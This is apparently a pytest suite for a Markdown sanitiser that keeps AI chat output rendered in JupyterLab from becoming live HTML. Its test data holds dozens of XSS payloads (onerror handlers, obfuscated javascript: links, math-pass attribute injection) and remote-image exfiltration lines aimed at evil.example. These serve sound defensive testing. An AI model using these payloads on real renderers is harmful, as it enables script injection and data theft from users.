"""sanitize_markdown: hostile model output must never render live HTML or script links.

The judge is JupyterLab itself when it is installed (its bundled ``marked``,
its ``removeMath``/``replaceMath`` math pass and its highlighter's
``class="language-..."`` path, run under node), and mistune otherwise too.
The rendered HTML may hold only plain Markdown tags and attributes, and no
``javascript:``/``vbscript:``/``data:`` (non-image) URL.
"""
from __future__ import annotations

import glob
import html
import json
import os
import random
import re
import shutil
import subprocess
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from opchat_magic.render import Renderer, sanitize_markdown
from opchat_magic.render.sanitize import _jl_math_regions, escape_text

# -- judges -----------------------------------------------------------------------
ORACLE_JS = r"""
// Markdown -> HTML as JupyterLab renders a live text/markdown output:
// removeMath -> marked (gfm) -> replaceMath, with the highlighter's
// `class="language-${lang}"` code path; once per marked version bundled in
// JupyterLab (its own renderer's, and older ones). JSON lines in, out.
const fs = require('fs'), path = require('path'), readline = require('readline');
const [dir, coreFile, ...markedSpecs] = process.argv.slice(2);
globalThis.self = globalThis;
if (typeof navigator === 'undefined') globalThis.navigator = {appName: 'Netscape', userAgent: 'node'};
function shim(mods) {
  const cache = {};
  function req(id) {
    if (cache[id]) return cache[id].exports;
    const module = {exports: {}}; cache[id] = module;
    mods[id](module, module.exports, req);
    return module.exports;
  }
  req.r = t => Object.defineProperty(t, '__esModule', {value: true});
  req.d = (t, defs) => { for (const k in defs) if (!(k in t)) Object.defineProperty(t, k, {enumerable: true, get: defs[k]}); };
  req.n = m => () => m;
  req.o = (o, p) => Object.prototype.hasOwnProperty.call(o, p);
  return req;
}
const key = 'rspackChunk_jupyterlab_application_top';
const esc = s => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
const markeds = markedSpecs.map(spec => {
  const [file, mod] = spec.split(':');
  globalThis[key] = [];
  eval(fs.readFileSync(path.join(dir, file), 'utf8'));
  const mk = shim(globalThis[key][0][1])(mod);
  const marked = new mk.Marked({gfm: true});
  marked.use({renderer: {code(tok) { return tok.lang ? `<pre><code class="language-${tok.lang}">${esc(tok.text)}</code></pre>\n` : false; }}});
  return marked;
});
const core = fs.readFileSync(path.join(dir, coreFile), 'utf8');
const at = core.indexOf('(\\$\\$?|\\\\(?:begin|end)');
if (at < 0) throw new Error('math module not found');
let start = -1, m, re = /(\d+)\(e,t,i\)\{"use strict";/g;
while ((m = re.exec(core)) && m.index < at) start = m.index + m[0].length - '"use strict";'.length;
const endRe = /\},\d+\(e,t,i\)\{/g; endRe.lastIndex = at;
const end = endRe.exec(core).index;
const mathExports = {};
new Function('e', 't', 'i', core.slice(start, end))({}, mathExports, {d: (t, defs) => { for (const k in defs) t[k] = defs[k](); }});
const fns = Object.values(mathExports);
const removeMath = fns.find(f => f.length === 1), replaceMath = fns.find(f => f.length === 2);
readline.createInterface({input: process.stdin}).on('line', line => {
  let out;
  try {
    const req = JSON.parse(line);
    if (req.op === 'urls') {
      // the WHATWG URL parser's reading of each attribute value (null: invalid, never loaded)
      out = {urls: req.urls.map(u => { try { return new URL(u, req.base).href; } catch (e) { return null; } })};
    } else if (req.op === 'batch') {
      out = {html: req.docs.map(md => { const p = removeMath(md); return markeds.map(mk => replaceMath(mk.parse(p.text), p.math)); })};
    } else {
      const parts = removeMath(req.md);
      out = req.op === 'math' ? parts : {html: markeds.map(mk => replaceMath(mk.parse(parts.text), parts.math))};
    }
  } catch (e) { out = {error: String(e && e.stack || e)}; }
  process.stdout.write(JSON.stringify(out) + '\n');
});
"""


def _jupyterlab_static():
    try:
        from jupyter_core.paths import jupyter_path
    except ImportError:
        return None
    for base in jupyter_path("lab"):
        static = os.path.join(base, "static")
        if glob.glob(os.path.join(static, "main.*.js")) and glob.glob(os.path.join(static, "jlab_core.*.js")):
            return static
    return None


class JupyterLabOracle:
    def __init__(self, tmp_path):
        static = _jupyterlab_static()
        node = shutil.which("node")
        if not static or not node:
            pytest.skip("needs node and an installed JupyterLab")
        main = open(glob.glob(os.path.join(static, "main.*.js"))[0]).read()
        specs = {}
        for m in re.finditer(
            r'name:"marked",version:"([\d.]+)",factory:\(\)=>__webpack_require__\.e\((\d+)\)'
            r"\.then\(\(\)=>\(\)=>__webpack_require__\((\d+)\)\)",
            main,
        ):
            files = glob.glob(os.path.join(static, m.group(2) + ".*.js"))
            if files:
                specs[m.group(1)] = "%s:%s" % (os.path.basename(files[0]), m.group(3))
        if not specs:
            pytest.skip("no marked found in JupyterLab's bundle")
        self.versions = sorted(specs)
        core = os.path.basename(glob.glob(os.path.join(static, "jlab_core.*.js"))[0])
        script = tmp_path / "jl_oracle.js"
        script.write_text(ORACLE_JS)
        self.proc = subprocess.Popen(
            [node, str(script), static, core] + [specs[v] for v in self.versions],
            stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
        )
        assert "<h1" in self.html("# ok"), "oracle does not render"

    def _ask(self, op: str, md: str = "", **extra) -> dict:
        self.proc.stdin.write(json.dumps({"op": op, "md": md, **extra}) + "\n")
        self.proc.stdin.flush()
        out = json.loads(self.proc.stdout.readline())
        if "error" in out:
            raise RuntimeError(out["error"])
        return out

    def html(self, md: str) -> str:
        """The HTML of every bundled marked version, concatenated."""
        return "\n".join(self._ask("html", md)["html"])

    def html_batch(self, docs: list) -> list:
        """For each document, the HTML of every bundled marked version (one node round trip)."""
        return self._ask("batch", docs=docs)["html"]

    def parse_urls(self, urls: list, base: str = "http://127.0.0.1:8888/lab/tree/chat.ipynb") -> list:
        """node's WHATWG ``new URL(u, base).href`` of each value (None when it does not parse)."""
        return self._ask("urls", urls=urls, base=base)["urls"]

    def remove_math(self, md: str) -> dict:
        """JupyterLab's removeMath(md): {"text": ..., "math": [...]}."""
        return self._ask("math", md)

    def close(self):
        self.proc.stdin.close()
        self.proc.wait(10)


@pytest.fixture(scope="module")
def jupyterlab(tmp_path_factory):
    oracle = JupyterLabOracle(tmp_path_factory.mktemp("oracle"))
    yield oracle
    oracle.close()


def _mistune():
    mistune = pytest.importorskip("mistune", minversion="3")
    return mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])


TAGS = {"p", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "code", "pre", "em", "strong",
        "a", "img", "blockquote", "hr", "table", "thead", "tbody", "tr", "th", "td", "del", "br", "input"}
ATTRS = {"href", "src", "alt", "title", "class", "start", "align", "checked", "disabled", "type", "id", "style"}
SAFE_IMAGE = re.compile(r"data:image/(png|gif|jpeg|webp)[;,]")


def _bad_url(value: str) -> bool:
    v = "".join(c for c in value if c not in "\t\n\r").lstrip("".join(map(chr, range(33)))).lower()
    return v.startswith(("javascript:", "vbscript:")) or (v.startswith("data:") and not SAFE_IMAGE.match(v))


class _Judge(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.problems.append("tag <%s>" % tag)
        for k, v in attrs:
            if k not in ATTRS:
                self.problems.append("attribute %s on <%s>" % (k, tag))
            elif k in ("href", "src") and v and _bad_url(v):
                self.problems.append("url %r" % v)
            elif k == "class" and v and not v.startswith("language-"):
                self.problems.append("class %r" % v)
            elif k == "style" and tag not in ("th", "td"):
                self.problems.append("style on <%s>" % tag)

    handle_startendtag = handle_starttag

    def handle_comment(self, data):
        self.problems.append("comment")

    def handle_pi(self, data):
        self.problems.append("processing instruction")

    def unknown_decl(self, data):
        self.problems.append("declaration")

    handle_decl = unknown_decl


def problems(html: str) -> list:
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.problems


# -- the battery -------------------------------------------------------------------
PAYLOADS = [
    "<script>alert(1)</script>",
    "Hi <script>alert(1)</script> there",
    "<img src=x onerror=alert(1)>",
    "Text <IMG SRC=x OnErRoR=alert(1)> text",
    "<img\nsrc=x\nonerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{display:none}</style>",
    "<!-- hidden --><img src=x onerror=alert(1)>",
    "<!---->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?>",
    '<a href="javascript:alert(1)">x</a>',
    "<details open ontoggle=alert(1)>",
    "</p><img src=x onerror=alert(1)>",
    "- item\n\n  <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "    not code? <img src=x onerror=alert(1)>\n- list <b onmouseover=alert(1)>x</b>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[c](java\tscript:alert(1))",
    "[c](&#106;avascript:alert(1))",
    "[c](&#x6A;avascript&colon;alert(1))",
    "[c](javascript&#58;alert(1))",
    "[c](javascript\\:alert(1))",
    "[c](&#1;javascript:alert(1))",
    '[c](  javascript:alert(1) "title")',
    "[c](<javascript:alert(1)>)",
    "[c](\njavascript:alert(1))",
    "[c](vbscript:msgbox(1))",
    "[c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![i](data:image/svg+xml,<svg onload=alert(1)>)",
    "![i](javascript:alert(1))",
    "[c][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]:\n  JAVASCRIPT:alert(1)",
    "<javascript:alert(1)>",
    "<JaVaScRiPt:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # JupyterLab's math pass: math is pasted back unescaped for quotes
    '![$" onerror="alert(1)$](x)',
    '[a](x "$" onmouseover="alert(1)$")',
    '![\\\\(" onerror="alert(1)\\\\)](x)',
    '![\\begin{x}" onerror="alert(1)\\end{x}](x)',
    "$a\n```\n$ <img src=x onerror=alert(1)>\n```",
    "\\begin{x}\n```\n\\end{x}\n<img src=x onerror=alert(1)>\n```\n```",
    # ...and its "@@n@@" placeholders, forged with an escape
    '![@\\@0@@](x)\n\n  ```\n  $" onerror="alert(1)$\n  ```\n',
    # fence info strings are pasted into class="language-..." by the highlighter
    '```py" onclick="alert(1)\ncode\n```',
    '~~~ x" autofocus onfocus="alert(1)\ncode\n~~~',
    # code that only looks like code to one parser
    "~`<img src=x onerror=alert(1)>`",
    "www.a.b`<img src=x onerror=alert(1)>`",
    "`a\nb`<img src=x onerror=alert(1)>`",
    "*a ``` x `<img src=x onerror=alert(1)>*` y",
    "[a](`x) <img src=x onerror=alert(1)>`",
    "| `x | <img src=x onerror=alert(1)> | y` |\n|---|---|---|",
    "- ```\n  ```\n  <img src=x onerror=alert(1)>\n",
    "- a\n\n     ```\n  ```\n  <img src=x onerror=alert(1)>\n",
    "- a\n  ```\n  x\n```\n<img src=x onerror=alert(1)>\n```",
    "[a]: /u '\n```\n'\n<img src=x onerror=alert(1)>\n```",
    "[\\\n```\n\\$]: </p><a href=javascript:alert(1)>x</a>\n- <img src=x onerror=alert(1)>",
    "```\n```~\n<img src=x onerror=alert(1)>\n```",
    "```\n```\t\n<img src=x onerror=alert(1)>\n```",
    "\\<img src=x onerror=alert(1)> www.x.y\\<img src=x onerror=alert(1)>",
]


def test_payloads_are_inert_in_jupyterlab(jupyterlab):
    live_before = 0
    for payload in PAYLOADS:
        if problems(jupyterlab.html(payload)):
            live_before += 1
        out = sanitize_markdown(payload)
        assert problems(jupyterlab.html(out)) == [], (payload, out, jupyterlab.html(out))
    # the judge has teeth: most payloads are live in JupyterLab when not sanitised
    assert live_before >= 0.75 * len(PAYLOADS), live_before


def test_payloads_are_inert_in_mistune():
    md = _mistune()
    for payload in PAYLOADS:
        out = sanitize_markdown(payload)
        assert problems(md(out)) == [], (payload, out, md(out))


def test_specific_rewrites():
    assert sanitize_markdown("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)>"
    assert sanitize_markdown("[x](javascript:alert(1))") == "[x](#blocked-javascript:alert(1))"
    assert sanitize_markdown("[x]: JaVaScRiPt:alert(1)") == "[x]: #blocked-JaVaScRiPt:alert(1)"
    assert sanitize_markdown("<javascript:alert(1)>") == "&lt;javascript:alert(1)>"
    assert sanitize_markdown("![a](data:image/png;base64,AAAA)") == "![a](data:image/png;base64,AAAA)"
    assert sanitize_markdown("![a](data:image/svg+xml,x)") == "&#33;[a](#blocked-data:image/svg+xml,x)"
    assert sanitize_markdown("[x](\u00a0javascript:y)") == "[x](#blocked-\u00a0javascript:y)"
    assert sanitize_markdown("[x](\ufeffjavascript:y)") == "[x](#blocked-\ufeffjavascript:y)"
    assert sanitize_markdown("[x](file:///etc/passwd)") == "[x](#blocked-file:///etc/passwd)"
    assert sanitize_markdown("![a](http://evil/?q=S)") == "&#33;[a](http://evil/?q=S)"
    assert sanitize_markdown("see FTP://host/x") == "see FTP&#58;//host/x"  # marked autolinks bare ftp://
    assert sanitize_markdown("```mermaid\ngraph TD\n```") == "```mermaid-source\ngraph TD\n```"
    assert sanitize_markdown('```py" onclick="x\nc\n```') == "```py onclickx\nc\n```"
    assert sanitize_markdown('![$" onerror="x$](y)') == "&#33;[$&quot; onerror=&quot;x$](y)"
    assert sanitize_markdown('![$" onerror="x$](y)', remote_images=True) == "![$&quot; onerror=&quot;x$](y)"
    assert sanitize_markdown('[$" onerror="x$](y)') == '[\\$" onerror="x$](y)'


# -- normal Markdown is left exactly as it is -------------------------------------
NORMAL = [
    "# Heading\n\nSome *emphasis*, **strong**, ~~gone~~ and `inline <div>` code.\n",
    "- one\n- two\n  - nested\n\n1. first\n2. second\n",
    "[a link](https://example.com/path?q=1&r=2 \"title\") and <https://example.com> and <me@example.com>\n",
    "![tiny](data:image/png;base64,iVBORw0KGgo=) [mail](mailto:a@b.co) [rel](../x.md#y) [frag](#top)\n",
    "```html\n<div class=\"x\" onclick=\"y()\">\n  <script>alert(1)</script>\n</div>\n```\n",
    "~~~python title\nif a < b and c > d:\n    print('<b>')\n~~~\n",
    "    indented <code> block\n    second line\n",
    "| a | b |\n|---|:-:|\n| `x < y` | 2 |\n",
    "> quote with `<tag>`\n>\n> - list in quote\n",
    "Math: $x^2 + y^2 = z^2$ and $$\\int_0^1 f(x)\\,dx$$ and \\\\(a < b\\\\).\n",
    "Compare x < y, a <= b, 1 << 3 and i<5 in prose; an arrow -> and <- too.\n",
    "Use the `<img>` tag, `<script src=\"a.js\">`, and `a | b` in shell.\n",
    "1. Install:\n   ```bash\n   pip install x\n   ```\n2. Run `x --help`.\n",
    "Escapes: \\* not emphasis \\_ and \\` tick, a backslash \\\\ and 50\\$.\n",
    "JavaScript: the good parts. A data: line. [note]: see below.\n",
    "Email a@b.co, visit www.example.com or https://x.org/a_(b).\n",
]


@pytest.mark.parametrize("doc", NORMAL)
def test_normal_markdown_is_unchanged(doc):
    assert sanitize_markdown(doc) == doc


def test_a_realistic_reply_is_unchanged():
    from test_render_renderer import realistic_reply

    for seed in range(5):
        doc = realistic_reply(20_000, seed)
        assert sanitize_markdown(doc) == doc


def test_escape_text_is_inert_and_readable(jupyterlab):
    text = 'Error 500: <img src=x onerror=alert(1)> [a](javascript:x) $"$ @@0@@ `x` # *y*'
    md = escape_text(text)
    html = jupyterlab.html(md)
    assert problems(html) == []
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "*y*" in html


# -- the JupyterLab math pass, reproduced ------------------------------------------
def test_math_regions_match_jupyterlab(jupyterlab):
    """Our port of removeMath finds the same regions as JupyterLab's (checked via placeholders)."""
    rng = random.Random(7)
    pieces = ["$", "$$", "x", " ", "\n", "\n\n", "{", "}", "\\\\(", "\\\\)", "\\begin{a}", "\\end{a}",
              "`", "```\n", "~~~", "\\$", "@@1@@", '"', "~"]
    found = 0
    for _ in range(1500):
        doc = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 25)))
        ours = [html.escape(doc[a:b], quote=False) for a, b, _s, _e in _jl_math_regions(doc)]
        theirs = [m for m in jupyterlab.remove_math(doc)["math"] if not m.startswith("@")]
        # JupyterLab renumbers "@@n@@" it finds inside math; the text is the same otherwise
        ours = [re.sub(r"@@\d+@@", "@@N@@", m) for m in ours]
        theirs = [re.sub(r"@@\d+@@", "@@N@@", m) for m in theirs]
        assert ours == theirs, doc
        found += len(ours)
    assert found > 300


# -- fuzz ---------------------------------------------------------------------------
FRAGMENTS = [
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<script>alert(1)</script>", "<!-- x -->",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<![CDATA[x]]>", "<?x?>", "</p>",
    "`", "``", "```", "~~~", "````", "$", "$$", "\\(", "\\\\(", "\\\\)", "\\begin{x}", "\\end{x}",
    "](", "[", "]", "(", ")", '"', "'", "\n", "\n\n", "  ", "    ", "- ", "1. ", "> ", "|",
    "javascript:alert(1)", "JaVa\tScRiPt:x", "&#106;", "&colon;", "&#1;", "data:text/html,x", "\\",
    "https://x.y/", "www.a.b", "<https://a.b>", "{", "}", "@@0@@", "@", "\\@", "*", "_", "~", "x", " ",
    "<b", "<", "/", "!", ":", "]: ", "![", "---", "#", "\t", "\n```\n", "\n```py\n", "\n   ```\n",
    "\n  - ", "`<img src=x onerror=alert(1)>`", "[a](", "[a]: ", "\"x\"", "\n| a | b |\n|---|---|\n",
    "\n> ", "\n    ", "\\`", "\\<", "\\$", "&lt;",
]
fuzz_docs = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=30).map("".join)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(doc=fuzz_docs)
def test_fuzz_against_jupyterlab(jupyterlab, doc):
    out = sanitize_markdown(doc)
    html = jupyterlab.html(out)
    assert problems(html) == [], (doc, out, html)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(doc=fuzz_docs)
def test_fuzz_against_mistune(doc):
    out = sanitize_markdown(doc)
    html = _mistune()(out)
    assert problems(html) == [], (doc, out, html)


def test_streamed_payloads_are_inert_at_every_update(jupyterlab):
    """Unclosed tags split across chunks: every tail and block sent is safe."""
    sent = []

    class Face:
        def add_block(self, md):
            sent.append(md)

        set_tail = add_block

        def close_tail(self):
            pass

        def footer(self, text):
            pass

        error = footer

    reply = "Intro <im" + "g src=x one" + "rror=alert(1)> done.\n\n" + "\n\n".join(PAYLOADS[:30])
    clock = [0.0]
    renderer = Renderer(Face(), interval=0.0, clock=lambda: clock[0], budget=1e9)
    for i in range(0, len(reply), 3):
        renderer.feed(reply[i : i + 3])
        clock[0] += 0.01
    renderer.finish()
    assert len(sent) > 100
    for md in sent:
        assert problems(jupyterlab.html(md)) == [], md


@pytest.mark.parametrize("pattern", ["](", "]((\"", "[a](`x\" $<b>* ", "$\"$ ", "``a` ", "x`<b>`", "$`<b>`", "- ```\n", "\\"])
@pytest.mark.timeout(60)  # a guard, not a measurement: ~0.1 s each here; quadratic would be minutes
def test_adversarial_input_stays_fast(pattern):
    """The tail is sanitised on every update: no pattern may make that blow up.

    (Safety of these patterns is asserted by the payload tests above; ``<b>``
    inside a code span rightly stays verbatim.)"""
    text = (pattern * (32_000 // len(pattern) + 1))[:32_000]  # 4x the largest tail the splitter keeps
    out = sanitize_markdown(text)
    assert len(out) >= len(text)  # escaping only ever adds


# -- destinations: the allowlist, judged by the real pipeline ------------------------
# sanitiser -> JupyterLab's bundled marked (every version) -> the HTML attribute
# value (entities decoded as a browser does) -> node's WHATWG URL parser. No href
# may end with a scheme other than http/https/mailto (relative ones resolve to the
# page's http), no src may be anything but an allowed data: image.
ALLOWED_HREF = re.compile(r"(https?|mailto):", re.I)
SPACES = ([chr(c) for c in range(0x21)] + ["\x7f"] + [chr(c) for c in range(0x80, 0xA1)]
          + ["\u1680", "\u180e", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029",
             "\u202a", "\u202e", "\u202f", "\u205f", "\u2060", "\u3000", "\ufeff", "\ufff9"]
          + [chr(c) for c in range(0x2000, 0x200B)])
SPACE_ENTITIES = ["&nbsp;", "&#xA0;", "&#160;", "&Tab;", "&NewLine;", "&#0;", "&#x1;", "&#8203;", "&#xFEFF;",
                  "&#x2028;", "&#12288;", "&#x180E;", "&ensp;", "&emsp;", "&thinsp;", "&#32;", "&#x9;"]
SCHEMES = ["javascript", "vbscript", "data", "file", "blob", "ftp", "jar", "view-source", "intent", "ws",
           "chrome", "about", "filesystem", "x-evil", "http", "https", "mailto"]
COLONS = [":", "&colon;", "&#58;", "&#x3a;", "&#X3A;", "\\:", "&#0058;"]
RESTS = ["alert(1)", "//evil.example/x", "image/png;base64,AA", "image/svg+xml,<svg onload=alert(1)>",
         "text/html,<script>alert(1)</script>", "/etc/passwd", "x", ""]


def _char(c: str):
    """One scheme character as a model could spell it: plain, either case, an entity, split by junk."""
    return st.one_of(
        st.sampled_from([c, c.upper(), c.lower()]),
        st.sampled_from(["&#%d;" % ord(c), "&#x%x;" % ord(c), "&#X%X;" % ord(c), "&#00%d;" % ord(c)]),
        st.tuples(st.sampled_from(["\t", "\n", "&Tab;", "&NewLine;", "\r"]), st.just(c)).map("".join),
        st.just("\\" + c) if not c.isalnum() else st.just(c),
    )


junk = st.lists(st.one_of(st.sampled_from(SPACES), st.sampled_from(SPACE_ENTITIES)), max_size=4).map("".join)


@st.composite
def destinations(draw):
    scheme = draw(st.sampled_from(SCHEMES))
    spelled = "".join(draw(_char(c)) for c in scheme)
    return draw(junk) + spelled + draw(st.sampled_from(COLONS)) + draw(st.sampled_from(RESTS))


FORMS = [
    "[t]({d})", "[t](<{d}>)", "![t]({d})", "![t](<{d}>)", '[t]({d} "title")', "[t][r]\n\n[r]: {d}",
    "![t][r]\n\n[r]: {d}", "[r]\n\n[r]:\n  {d}", "[t]( {d})", "![t][]\n\n[t]: <{d}>", "a [t]({d}) b",
    "- [t]({d})", "> ![t]({d})", "| a |\n|---|\n| [t]({d}) |",
]


class _Urls(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)  # attribute values decoded as a browser does
        self.found = []

    def handle_starttag(self, tag, attrs):
        for k, v in attrs:
            if k in ("href", "src") and v is not None:
                self.found.append((tag, k, v))

    handle_startendtag = handle_starttag


def _attribute_urls(html_text: str) -> list:
    parser = _Urls()
    parser.feed(html_text)
    parser.close()
    return parser.found


def _pipeline_violations(jupyterlab, docs: list, remote_images=False) -> list:
    """(doc, tag, attr, value, href) for every URL outside the allowlist, through the real pipeline."""
    outs = [sanitize_markdown(d, remote_images=remote_images) for d in docs]
    found = []
    for doc, out, htmls in zip(docs, outs, jupyterlab.html_batch(outs)):
        for h in htmls:
            found += [(doc, out, tag, k, v) for tag, k, v in _attribute_urls(h)]
    hrefs = jupyterlab.parse_urls([v for *_x, v in found])
    bad = []
    for (doc, out, tag, k, v), href in zip(found, hrefs):
        if href is None:
            continue  # not a URL: never followed, never fetched
        if tag == "img" and k == "src":
            if not (SAFE_IMAGE.match(href) or (remote_images and ALLOWED_HREF.match(href))):
                bad.append((doc, out, tag, k, v, href))
        elif not (ALLOWED_HREF.match(href) or SAFE_IMAGE.match(href)):
            bad.append((doc, out, tag, k, v, href))
    return bad


def test_pipeline_judge_has_teeth(jupyterlab):
    """Unsanitised, the same pipeline finds the finding-1 links (a Unicode space before javascript:)."""
    docs = [f"[t]({sp}javascript:alert(1))" for sp in ("\u00a0", "\u3000", "\ufeff", "\u2028", "\u205f")]
    found = []
    for doc, htmls in zip(docs, jupyterlab.html_batch(docs)):
        for h in htmls:
            found += [v for _t, _k, v in _attribute_urls(h)]
    hrefs = jupyterlab.parse_urls(found)
    assert sum(1 for h in hrefs if h and h.startswith("javascript:")) >= len(docs), hrefs
    assert _pipeline_violations(jupyterlab, docs) == []


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(dests=st.lists(destinations(), min_size=40, max_size=40), forms=st.lists(st.sampled_from(FORMS), min_size=40, max_size=40))
def test_destinations_allowlist_against_the_real_pipeline(jupyterlab, dests, forms):
    docs = [form.replace("{d}", d) for form, d in zip(forms, dests)]
    assert _pipeline_violations(jupyterlab, docs) == []


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(dests=st.lists(destinations(), min_size=40, max_size=40))
def test_destinations_allowlist_with_remote_images_on(jupyterlab, dests):
    """Opting in to remote images lets http(s) images load, never another scheme."""
    docs = [f"![t]({d}) ![u][r]\n\n[r]: {d}" for d in dests]
    assert _pipeline_violations(jupyterlab, docs, remote_images=True) == []


# -- images: no fetch the user did not opt in to -------------------------------------------
REMOTE_IMAGES = [
    "![x](http://evil.example/?q=SECRET)",
    "![x](HTTPS://evil.example/a.png 'title')",
    "![x][r]\n\n[r]: http://evil.example/r.png",
    "![r]\n\n[r]: //evil.example/r.png",
    "![x](//evil.example/p.png)",
    "![x](evil.png)",
    "[![x](http://evil.example/nested.png)](http://example.org)",
    "![a [b](http://good.example/)](http://evil.example/x.png)",
    "- ![x](<http://evil.example/list.png>)",
    "| ![x](http://evil.example/t.png) |\n|---|",
    "`a`![x](http://evil.example/after-span.png)",
    "``x`![x](http://evil.example/in-span.png)",
    "\\\\![x](http://evil.example/escaped-backslash.png)",
    "$x$ ![x](http://evil.example/math.png) $y$",
    "![x](&#104;ttp://evil.example/entity.png)",
]


def test_remote_images_become_links(jupyterlab):
    outs = [sanitize_markdown(d) for d in REMOTE_IMAGES]
    for doc, out, htmls in zip(REMOTE_IMAGES, outs, jupyterlab.html_batch(outs)):
        for h in htmls:
            srcs = [v for tag, k, v in _attribute_urls(h) if tag == "img"]
            assert srcs == [], (doc, out, h)
            if "evil.example" in doc and "nested" not in doc and "in-span" not in doc:
                # the image is a visible link to where it would have fetched from
                assert any(tag == "a" and "evil" in v for tag, k, v in _attribute_urls(h)), (doc, out, h)


def test_data_images_and_opted_in_hosts_show(jupyterlab):
    png = "data:image/png;base64,iVBORw0KGgo="
    docs = [f"![dot]({png})", "![ok](https://img.example/a.png)", "![no](https://evil.example/a.png)",
            "![no][r]\n\n[r]: https://img.example/a.png", "![no](https://img.example.evil.example/a.png)",
            "![no](https://img.example@evil.example/a.png)", "![no](https://img.example\\@evil.example/)"]
    outs = [sanitize_markdown(d, remote_images=["img.example"]) for d in docs]
    srcs = [[v for tag, k, v in _attribute_urls(h[0]) if tag == "img"] for h in jupyterlab.html_batch(outs)]
    assert srcs == [[png], ["https://img.example/a.png"], [], [], [], [], []], list(zip(docs, outs))
    everything = sanitize_markdown("![x](http://evil.example/a.png)", remote_images=True)
    assert everything == "![x](http://evil.example/a.png)"


def test_mermaid_fences_render_as_code(jupyterlab):
    for fence in ("```mermaid\ngraph TD\nA[\"<img src=http://evil.example/m.png>\"]\n```",
                  "~~~ mermaid {x}\ngraph TD\n~~~", "- ```Mermaid\n  graph TD\n  ```"):
        out = sanitize_markdown(fence)
        assert "mermaid-source" in out.lower(), out
        for h in jupyterlab.html_batch([out])[0]:
            assert 'class="language-mermaid"' not in h and "<img" not in h, h


def test_grouped_output_is_sanitised_as_a_whole(jupyterlab):
    """Blocks cut inside a long paragraph, gathered in one output: a JupyterLab math span
    opening in one block and closing in the next must not carry a quote into an attribute."""
    sent = []

    class Face:
        def add_block(self, md):
            sent.append(md)

        set_tail = add_block

        def close_tail(self):
            pass

        def footer(self, text):
            pass

        error = footer

    filler = "\n".join(["words of a long paragraph here"] * 7)  # ~220 chars: past max_chars=200
    reply = filler + '\n[a](x "$"\nonmouseover="window.__pwned=1$")\n\nafter\n'
    renderer = Renderer(Face(), interval=0.0, clock=lambda: 0.0, budget=1e9, max_chars=200, group_chars=10_000)
    renderer.feed(reply)
    renderer.finish()
    assert renderer.blocks >= 2  # the paragraph really was cut
    for md in sent:
        assert problems(jupyterlab.html(md)) == [], md
